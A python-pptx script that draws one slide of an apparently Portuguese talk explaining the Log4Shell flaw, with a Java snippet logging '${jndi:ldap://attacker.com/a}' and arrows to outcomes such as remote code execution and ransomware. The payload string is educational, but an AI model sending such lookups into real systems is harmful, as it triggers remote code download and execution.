
from pptx import Presentation
from pptx import util as u
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml import parse_xml
from pptx.oxml.ns import nsdecls


def color(code):
    return RGBColor.from_string(code)


def add_text(box, lines, size=18, face="Arial", ink="595959",
             align=text.PP_ALIGN.CENTER, space=1.0,
             anchor=text.MSO_ANCHOR.TOP):
    """Add a text box; each line is a list of runs."""
    frame = slide.shapes.add_textbox(*map(u.Inches, box)).text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.margin_left = frame.margin_right = u.Inches(0.1)
    frame.margin_top = frame.margin_bottom = u.Inches(0.1)
    for i, line in enumerate(lines):
        para = frame.paragraphs[0] if i == 0 else frame.add_paragraph()
        para.alignment = align
        para.line_spacing = space
        for part in line:
            para.add_run().text = part
        para.font.size = u.Pt(size)
        para.font.name = face
        para.font.color.rgb = color(ink)
    return frame


# Wide 16:9 slide
deck = Presentation()
deck.slide_width = u.Inches(10)
deck.slide_height = u.Inches(10 * 9 / 16)
slide = deck.slides.add_slide(deck.slide_layouts[6])
slide.background.fill.solid()
slide.background.fill.fore_color.rgb = color("FAFAFA")

# Code sample with the marked lookup
code = add_text((1.25, 0.43, 7.09, 0.85),
                [['String data = "', "${jndi:ldap://attacker.com/a}", '";'],
                 ["logger.info(data);"]],
                face="Noto Sans Mono", ink="434343",
                align=text.PP_ALIGN.LEFT, space=1.15)
lookup = code.paragraphs[0].runs[1]
lookup.font.color.rgb = color("434343")
lookup._r.get_or_add_rPr().append(parse_xml(
    f'<a:highlight {nsdecls("a")}><a:srgbClr val="FFF2CC"/></a:highlight>'))

# Slide number
add_text((0.02, 5.1, 0.6, 0.43), [["71"]], size=10,
         align=text.PP_ALIGN.RIGHT, anchor=text.MSO_ANCHOR.MIDDLE)

# What happens, and what it leads to
add_text((1.52, 1.86, 6.26, 0.85),
         [["Acessa um servidor remoto e  baixa código (objeto serializável), "
           "que vai ser então executado localmente."]], space=1.15)
add_text((1.94, 3.54, 5.77, 1.11),
         [["Remote Code Execution (RCE), Remote Shell"],
          ["Ransomware, Cryptomining"], ["etc"]])

# Arrows between the steps
for top in (2.77, 1.36):
    arrow = slide.shapes.add_shape(
        shapes.MSO_SHAPE.DOWN_ARROW, u.Inches(4.42), u.Inches(top),
        u.Inches(0.31), u.Inches(0.53))
    arrow.shadow.inherit = False
    arrow.fill.solid()
    arrow.fill.fore_color.rgb = color("EEEEEE")
    arrow.line.color.rgb = color("595959")
    arrow.line.width = u.Pt(0.75)

deck.save("out.pptx")
